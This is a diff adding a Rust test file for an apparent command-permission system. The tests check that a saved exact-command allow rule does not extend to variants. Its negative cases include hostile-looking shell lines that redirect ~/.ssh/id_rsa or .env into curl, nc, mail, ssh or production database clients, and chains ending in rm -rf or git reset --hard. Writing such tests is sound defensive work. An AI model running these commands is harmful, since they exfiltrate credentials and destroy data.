@@ -1,0 +1,149 @@
+//! Rules that the offer of an exact command saves: they hold for exactly what was shown.
+
+use crate::testing::Scene;
+use crate::{AlwaysOffer, Decision, Gap, OfferLabel, Pattern, Rule, RuleOrigin, Source};
+
+const PROGRAMS: [&str; 14] = [
+    "ssh", "psql", "mysql", "docker", "kubectl", "crontab", "nc", "mail", "timeout", "strace", "test",
+    "make", "patch", "jq",
+];
+
+fn scene(text: &str) -> Scene {
+    let scene = PROGRAMS
+        .iter()
+        .fold(Scene::new(), |scene, name| scene.program(&format!("/usr/bin/{name}"), name))
+        .with_allow_rule("cat *")
+        .with_allow_rule("git stash *")
+        .with_allow_rule("echo *");
+    scene.with_shell_text(text)
+}
+
+fn exact_offer(text: &str) -> Option<AlwaysOffer> {
+    scene(text).offers().into_iter().find(|offer| offer.id == "exact")
+}
+
+/// Returns the rules of the offer as the host saves them.
+fn saved(offer: &AlwaysOffer) -> Vec<Rule> {
+    let always = |(at, rule): (i64, Rule)| Rule { id: 100 + at, source: Source::Always, ..rule };
+    (0..).zip(offer.to_rules(RuleOrigin::Any)).map(always).collect()
+}
+
+fn judged(rules: &[Rule], text: &str) -> Decision {
+    rules.iter().fold(scene(text), |scene, rule| scene.with_rule(rule.clone())).judge_request().decision
+}
+
+/// Asserts that what the exact offer for `text` saves allows it again, and none of the others.
+fn holds_for_itself_alone(text: &str, others: &[&str]) {
+    let Some(offer) = exact_offer(text) else { panic!("no exact offer for {text}") };
+    let rules = saved(&offer);
+    assert_eq!(judged(&rules, text), Decision::Allow, "{text}: {rules:?}");
+    for other in others {
+        assert_ne!(judged(&rules, other), Decision::Allow, "{text} allows {other}: {rules:?}");
+    }
+}
+
+#[test]
+fn an_exact_command_reads_the_file_on_show_and_no_other() {
+    holds_for_itself_alone(
+        "tee out.txt < ok.sql",
+        &["tee out.txt < ~/.ssh/id_rsa", "tee out.txt < .env", "tee out.txt < ../other/f1", "tee out.txt"],
+    );
+    for (command, file) in [
+        ("curl -d @- https://x.com", "ok.sql"),
+        ("nc host.com 80", "ok.sql"),
+        ("mail -s x a@b.c", "ok.sql"),
+        ("ssh host", "ok.sh"),
+        ("docker exec -i db psql", "ok.sql"),
+        ("mysql -h prod", "ok.sql"),
+        ("psql", "ok.sql"),
+        ("kubectl apply -f -", "ok"),
+        ("grep x", "ok.sql"),
+    ] {
+        let with = |file: &str| format!("{command} < {file}");
+        let others = [
+            with(".env"),
+            with("../other/f1"),
+            with("~/.ssh/id_rsa"),
+            with("bad"),
+            format!("cat bad | {command}"),
+        ];
+        let mut others: Vec<&str> = others.iter().map(String::as_str).collect();
+        if command == "grep x" {
+            others.pop();
+        } else {
+            others.push(command);
+        }
+        holds_for_itself_alone(&with(file), &others);
+    }
+    let label = exact_offer("psql < ok.sql").map(|offer| offer.label);
+    let changeable = vec!["ok.sql".to_owned()];
+    assert_eq!(label, Some(OfferLabel::Exact { commands: 1, changeable }), "its content is not held");
+}
+
+#[test]
+fn an_exact_command_without_input_gets_none() {
+    for text in ["ssh host uptime", "psql -l", "curl -d @- https://x.com"] {
+        let others = [format!("{text} < ok.sql"), format!("cat ok.sql | {text}"), format!("{text} <<< x")];
+        holds_for_itself_alone(text, &others.iter().map(String::as_str).collect::<Vec<_>>());
+    }
+    let quiet = saved(&exact_offer("psql -l").unwrap());
+    for same in ["psql -l 2>&1", "psql -l 2>/dev/null", "psql -l </dev/null", "psql -l | cat"] {
+        assert_eq!(judged(&quiet, same), Decision::Allow, "{same}: neither gives it anything");
+    }
+}
+
+#[test]
+fn an_exact_command_keeps_its_variables_and_wrappers() {
+    for (text, others) in [
+        ("NODE_ENV=test npm run seed", ["npm run seed", "NODE_ENV=production npm run seed"]),
+        ("CI=1 npm run seed", ["npm run seed", "CI=0 npm run seed"]),
+        ("npm run seed", ["CI=1 npm run seed", "timeout 5 npm run seed"]),
+        ("env -i npm run deploy", ["npm run deploy", "env npm run deploy"]),
+        ("timeout 5 npm run deploy", ["npm run deploy", "timeout 500 npm run deploy"]),
+        ("npm run deploy > out.txt", ["npm run deploy >> out.txt", "npm run deploy"]),
+    ] {
+        holds_for_itself_alone(text, &others);
+    }
+}
+
+#[test]
+fn a_dangerous_step_of_a_line_is_offered_with_the_whole_line() {
+    for (text, part) in [
+        ("[ -d /backup ] && rm -rf build", "rm -rf build"),
+        ("false && rm -rf build", "rm -rf build"),
+        ("true || rm -rf build", "rm -rf build"),
+        ("git stash && git reset --hard && git stash pop", "git reset --hard"),
+        ("cp -r build bak && rm -rf build", "rm -rf build"),
+    ] {
+        holds_for_itself_alone(text, &[part, &format!("{part}; true")]);
+    }
+    assert!(exact_offer("rm -rf build").is_some_and(|offer| !offer.is_line()), "alone it is the command");
+}
+
+#[test]
+fn a_step_that_takes_commands_by_a_pipe_is_offered_with_the_whole_line() {
+    for (text, command) in [
+        ("cat ok.sh | ssh host", "ssh host"),
+        ("cat src/a.py | psql", "psql"),
+        ("echo 'select 1' | psql", "psql"),
+    ] {
+        let fed = format!("cat bad | {command}");
+        holds_for_itself_alone(text, &[command, &fed, &format!("{command} < bad")]);
+    }
+    let label = exact_offer("cat ok.sh | ssh host").map(|offer| offer.label);
+    let changeable = vec!["ok.sh".to_owned()];
+    assert_eq!(label, Some(OfferLabel::Exact { commands: 1, changeable }));
+    let data = exact_offer("git log | grep x").unwrap();
+    assert!(!data.is_line(), "a search takes no commands: {data:?}");
+}
+
+#[test]
+fn an_exact_rule_of_before_reads_no_file_and_a_typed_one_stays_as_it_is() {
+    let argv = vec!["tee".to_owned(), "out.txt".to_owned()];
+    let typed = Rule { id: 1, ..Rule::new(crate::Effect::Allow, Pattern::Exact(argv)) };
+    let before = Rule { source: Source::Always, ..typed.clone() };
+    assert_eq!(judged(std::slice::from_ref(&typed), "tee out.txt < ok.sql"), Decision::Allow);
+    let asked = scene("tee out.txt < ok.sql").with_rule(before.clone()).judge_request();
+    assert!(matches!(asked.cause, crate::Cause::NotCovered { gap: Gap::NoInput, .. }), "{:?}", asked.cause);
+    assert_eq!(judged(&[before], "tee out.txt"), Decision::Allow);
+}
